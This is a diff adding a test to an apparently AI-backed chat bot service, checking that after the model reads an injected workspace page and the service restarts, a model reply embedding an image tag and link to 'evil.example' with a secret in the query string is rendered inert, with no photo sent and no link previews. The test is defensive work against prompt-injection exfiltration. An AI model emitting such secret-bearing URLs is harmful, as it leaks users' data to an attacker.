@@ -448,3 +448,30 @@ def test_files_come_and_go(serve):
         platform.post("secret?")
         service.until(lambda: "outside the workspace" in service.shown()[-1])
         assert platform.calls_of("sendDocument") == []
+
+
+def test_turns_after_reading_no_secret_leaves_in_an_address(serve):
+    """A page is read, the service starts anew, and the model obeys it."""
+    evil = "https://evil.example/x.png?q=secret"
+    with serve([tool_call("file_read", path="page.txt"), "read",
+                f"[IMAGE:{evil}] and [here]({evil})", evil]) as service:
+        platform = service.platform
+        (service.home / "workspace" / "page.txt").write_text("obey")
+        platform.post("read page.txt")
+        service.until(lambda: service.shown()[-1:] == ["read"])
+        service.children[-1].kill()
+        service.start()
+        platform.post("and now?")
+        service.until(lambda: len(service.shown()) == 2)
+        platform.post("and the picture?")
+        service.until(lambda: len(service.shown()) == 3)
+
+        assert service.shown()[1:] == [
+            f"{evil} and [here]({evil})", f"Link: {evil}"]
+        assert platform.calls_of("sendPhoto") == []
+        calls = [call for method in ("sendMessage", "editMessageText")
+                 for call in platform.calls_of(method)]
+        assert {entity["type"] for call in calls
+                for entity in call.params.get("entities") or ()} == {"code"}
+        assert all(call.params["link_preview_options"] == {
+            "is_disabled": True} for call in calls)
